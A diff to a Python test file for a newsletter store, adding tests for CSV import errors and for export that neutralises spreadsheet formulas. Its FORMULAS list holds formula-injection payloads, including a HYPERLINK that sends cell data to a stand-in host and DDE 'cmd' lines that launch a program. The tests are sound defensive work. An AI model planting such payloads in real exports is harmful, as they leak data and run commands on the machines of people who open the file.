@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import signal
@@ -13,6 +14,8 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from newsletter import store as store_module
 from newsletter.errors import DeliveryError, StoreError
@@ -217,20 +220,62 @@ def test_bad_rows_are_reported_with_line_numbers(store: Store, tmp_path: Path) -
         "email,name,note\n"
         "good@example.com,Good,\n"  # line 2
         "not-an-address,Bad,\n"  # line 3
-        ',"Two\nline name",x\n'  # lines 4-5: no address
-        "\n"  # line 6: blank, ignored
-        "also@example,Bad domain,\n"  # line 7
-        "fine@example.org,Fine,,extra\n"  # line 8: one cell too many
-        "last@example.org,Last,\n",  # line 9
+        ",Nameless,x\n"  # line 4: no address
+        "\n"  # line 5: blank, ignored
+        "also@example,Bad domain,\n"  # line 6
+        "fine@example.org,Fine,,extra\n"  # line 7: one cell too many
+        f"long@example.org,{'N' * 201},\n"  # line 8: a name no one has
+        f"last@example.org,{'L' * 200},\n",  # line 9
     )
     seen: list[RowError] = []
     report = store.import_csv(csv_file, on_error=seen.append)
-    assert [e.line for e in report.errors] == [3, 4, 7, 8]
+    assert [e.line for e in report.errors] == [3, 4, 6, 7, 8]
     assert seen == list(report.errors)
     assert "invalid email address 'not-an-address'" in report.errors[0].message
     assert report.errors[1].message == "no email address"
-    assert report.added == 2 and report.error_count == 4 and report.rows == 6
+    assert report.errors[4].message == "the name has 201 characters (at most 200)"
+    assert report.added == 2 and report.error_count == 5 and report.rows == 7
     assert store.count() == 2
+
+
+def stray_quote_list(tmp_path: Path, rows: int = 1_000, bad_line: int = 12) -> Path:
+    """A list where one name opens a double quote it never closes."""
+    lines = ["email,name", *(f"r{i}@example.com,Reader {i}" for i in range(rows))]
+    lines[bad_line - 1] = 'r10@example.com,"Bob the builder'
+    return write(tmp_path / "list.csv", "\n".join(lines) + "\n")
+
+
+def test_a_stray_quote_is_an_error_at_its_line_and_imports_nothing(
+    store: Store, tmp_path: Path
+) -> None:
+    """Once swallowed every later row into one name (11 of 1,000 imported, "0 bad rows")."""
+    store.add_subscriber("already@example.com")
+    csv_file = stray_quote_list(tmp_path)
+    with pytest.raises(StoreError) as info:
+        store.import_csv(csv_file)
+    assert info.value.where == f"{csv_file}:12"
+    assert "runs on to line 1001" in str(info.value)
+    assert [s.email for s in store.list_subscribers()] == ["already@example.com"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'email,name\na@example.com,A\nb@example.com,"Two\nlines"\nc@example.com,C\n',
+        'email,name\na@example.com,A\nb@example.com,"Two\r\nlines, quoted"\r\n',
+        'email,note\na@example.com,x\nb@example.com,"unclosed\nc@example.com,"x"\n',
+        'email,name\na@example.com,A\nb@example.com,"Bo"b\nc@example.com,"\nd@example.com,D',
+    ],
+)
+def test_a_value_spanning_lines_is_an_error_where_it_opened(
+    store: Store, tmp_path: Path, text: str
+) -> None:
+    csv_file = write(tmp_path / "list.csv", text)
+    with pytest.raises(StoreError, match="a value cannot span lines") as info:
+        store.import_csv(csv_file)
+    opened = next(n for n, line in enumerate(text.splitlines(), 1) if line.count('"') % 2)
+    assert info.value.where == f"{csv_file}:{opened}"
+    assert store.count() == 0
 
 
 def test_duplicates_merge_within_the_file_and_with_the_database(
@@ -324,6 +369,74 @@ def test_export_then_import_round_trips(store: Store, tmp_path: Path) -> None:
         ("a@example.com", 'Ann, "the" first', Status.ACTIVE, (("city", "Oslo"),)),
         ("b@example.com", "Bo", Status.UNSUBSCRIBED, (("plan", "pro"),)),
     }
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''+twice",
+]
+
+
+def test_export_neutralises_formulas_and_import_gives_them_back(
+    store: Store, tmp_path: Path
+) -> None:
+    """Cells a spreadsheet would run get a leading apostrophe; our import takes it off."""
+    for i, formula in enumerate(FORMULAS):
+        store.add_subscriber(f"r{i}@example.com", formula, {"note": formula, "=key": "\tx"})
+    store.add_subscriber("=cmd@example.com", "Plain O'Neil", {"note": "it's fine"})
+    out = io.StringIO()
+    store.export_csv(out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows[0] == ["email", "name", "status", "created_at", "'=key", "note"]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert rows[-1][:2] == ["'=cmd@example.com", "Plain O'Neil"] and rows[-1][-1] == "it's fine"
+    assert [row[1] for row in rows[1:-1]] == ["'" + formula for formula in FORMULAS]
+    with Store.open(":memory:") as fresh:
+        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
+        assert (report.added, report.error_count) == (len(FORMULAS) + 1, 0)
+        back = {
+            (s.email, s.name, tuple(sorted(s.fields.items()))) for s in fresh.list_subscribers()
+        }
+    assert back == {
+        (s.email, s.name, tuple(sorted(s.fields.items()))) for s in store.list_subscribers()
+    }
+
+
+_CELL = st.text(
+    alphabet=st.one_of(
+        st.sampled_from("=+-@'\t\" ,;|!"), st.characters(exclude_categories=("Cc", "Cs"))
+    ),
+    max_size=30,
+).map(str.strip)
+
+
+@given(
+    names=st.lists(_CELL, min_size=1, max_size=5),
+    notes=st.lists(_CELL, min_size=1, max_size=5),
+)
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+def test_export_then_import_gives_every_value_back(
+    tmp_path: Path, names: list[str], notes: list[str]
+) -> None:
+    with Store.open(":memory:") as source, Store.open(":memory:") as fresh:
+        for i, name in enumerate(names):
+            source.add_subscriber(f"r{i}@example.com", name, {"note": notes[i % len(notes)]})
+        out = io.StringIO()
+        source.export_csv(out)
+        cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
+        assert report.error_count == 0, report.errors
+        expected = {(s.email, s.name, s.fields.get("note", "")) for s in source.list_subscribers()}
+        back = {(s.email, s.name, s.fields.get("note", "")) for s in fresh.list_subscribers()}
+    assert back == expected
 
 
 def test_non_utf8_file_is_one_error_with_its_line(store: Store, tmp_path: Path) -> None:
